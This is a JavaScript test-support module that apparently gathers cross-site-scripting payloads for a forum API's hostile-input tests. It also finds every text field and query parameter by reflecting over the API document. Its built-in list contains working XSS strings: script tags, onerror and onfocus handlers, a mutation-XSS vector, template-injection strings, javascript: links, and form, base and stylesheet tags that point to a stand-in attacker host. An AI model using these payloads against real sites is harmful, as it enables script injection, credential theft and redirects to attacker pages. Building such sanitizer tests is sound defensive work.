// What hostile.test.mjs stands on: the payloads of the real test data, and every text that a person can
// send, found by reflection over the API document, so that a new field is covered by itself.
import { existsSync } from "node:fs";
import { readFile, readdir } from "node:fs/promises";
import path from "node:path";
import { root } from "./support.mjs";

/** A few of our own, that no collection would leave out; the data has some fifteen hundred more. */
const OURS = [
  "<script>__pwned = 1</script>",
  "\"><img src=x onerror=alert(1)>",
  "' autofocus onfocus='alert(1)",
  "</title></textarea></style></noscript><svg onload=alert(1)>",
  "javascript:alert(1)//",
  "onerror-alert",
  "[x](javascript:alert(1)) ![x](x\"onerror=alert(1)) <https://evil.example/\"onclick=alert(1)>",
  "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
  "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= alert(1) %>",
  "<link rel=stylesheet href=//evil.example/x.css><meta http-equiv=refresh content='0;url=//evil.example'><base href=//evil.example>",
  "<form id=x action=//evil.example><input name=body autofocus onfocus=alert(1)></form>",
];

/** All payloads, or null after a loud line when the data is not there. */
export async function payloads() {
  const folder = path.join(process.env.GROVE_TEST_DATA ?? path.join(root, "../shared/data"), "xss");
  if (!existsSync(folder)) return console.error(`!!! SKIPPED: no payloads at ${folder}; set GROVE_TEST_DATA`), null;
  const json = async (name) => JSON.parse(await readFile(path.join(folder, name), "utf8"));
  const files = async (name, read) => {
    const all = (await readdir(path.join(folder, name))).filter((file) => /\.(test|xml)$/.test(file)).sort();
    return (await Promise.all(all.map(async (file) => read(await readFile(path.join(folder, name, file), "utf8"))))).flat();
  };
  const found = [
    ...(await json("dompurify-expect.json")).map((one) => one.payload),
    ...(await json("blns.json")),
    ...(await files("bleach", (text) => text.split("\n--\n")[0])),
    ...(await files("feedparser-sanitize", inFeed)),
  ];
  const kept = found.filter((text) => typeof text === "string" && text.trim() && !text.includes("\0"));
  return [...OURS, ...new Set(kept)];
}

/** The texts of a feed's entry, as they are when its XML has been read. */
function inFeed(xml) {
  const decoded = (text) => text.replace(/&lt;/g, "<").replace(/&gt;/g, ">").replace(/&quot;/g, '"').replace(/&amp;/g, "&");
  return [...xml.matchAll(/<(content|summary|description|title)[^>]*>([\s\S]+?)<\/\1>/g)].map((found) => decoded(found[2]));
}

/** So many of a list, the same ones for the same seed; ours always. */
export function sample(list, count, seed) {
  const rest = list.slice(OURS.length).map((value, at) => [Math.sin(seed * 9973 + at * 7919) % 1, value]).sort((a, b) => a[0] - b[0]);
  return [...list.slice(0, OURS.length), ...rest.slice(0, Math.max(0, count - OURS.length)).map(([, value]) => value)];
}

/** What is valid where the type alone does not say it. */
const VALID = {
  kind: "discussion", handle: "theo", role: "member", reply: null, target: null, visibility: "public", joining: "open", kinds: ["discussion"],
  email: "lee@example.org", slug: undefined, parent: undefined, outcome: "dismissed", to: "up", under: "", report: "", access: "public",
  icon: undefined, accent: undefined, theme: "auto", language: "en", bot: "", brand: "", staff: "", title: "A plain title", rule: 1, days: 3,
  source: "1. Be kind.\n2. No spam.\n3. Trade in the open.", words: "Some plain words", newcomer_posts_a_day: 20, newcomer_days: 1,
  tags: "plain", version: undefined,
};
/** The same where one operation differs: a space is shown to others, and moved, through addresses of their own. */
const VALID_IN = { "PATCH /spaces/{slug}": { visibility: undefined } };

/** Every operation of the document that takes a body of texts: its fields, those of them that are texts, and the least that is valid. */
export function operations(document) {
  const whole = (schema) => (schema.$ref ? whole(document.components.schemas[schema.$ref.split("/").at(-1)]) : schema);
  const is = (schema, type) => [schema.type].flat().includes(type);
  const found = [];
  for (const [place, methods] of Object.entries(document.paths)) {
    for (const [method, operation] of Object.entries(methods)) {
      const body = operation.requestBody?.content?.["application/json"]?.schema;
      if (!body) continue;
      const schema = whole(body);
      const fields = Object.entries(schema.properties ?? {}).map(([name, value]) => [name, whole(value)]);
      const texts = fields.filter(([, value]) => (is(value, "string") && !value.enum) || (is(value, "array") && is(whole(value.items ?? {}), "string")));
      const valid = { ...VALID, ...VALID_IN[`${method.toUpperCase()} ${place}`] };
      const plain = ([name, value]) => [name, place === "/me" ? undefined : name in valid ? valid[name] : value.enum?.[0] ?? (is(value, "string") ? "Plain words" : is(value, "integer") ? 1 : is(value, "array") ? [] : false)];
      found.push({
        name: `${method.toUpperCase()} ${place}`, method: method.toUpperCase(), place, valid: Object.fromEntries(fields.map(plain)),
        texts: texts.map(([name, value]) => ({ name, list: is(value, "array") })),
      });
    }
  }
  return found;
}

/** The queries of reading routes that take a text. */
export function queries(document) {
  return Object.entries(document.paths).flatMap(([place, { get }]) => {
    const names = (get?.parameters ?? []).filter((one) => one.in === "query" && [one.schema.type].flat().includes("string")).map((one) => one.name);
    return names.length ? [{ place, names }] : [];
  });
}

/** Pages of one kind are one: where it leads, without what it leads to. */
export function shape(address) {
  const url = new URL(address, "http://x");
  const plain = url.pathname.replace(/\/[a-z]{3}_[0-9a-z]+/g, "/{id}").replace(/^\/(spaces|members|tags|rules|invitations|drafts)\/(?!new\b|edit\b)[^/]+/, "/$1/{}");
  return `${plain}?${[...url.searchParams.keys()].sort()}`;
}
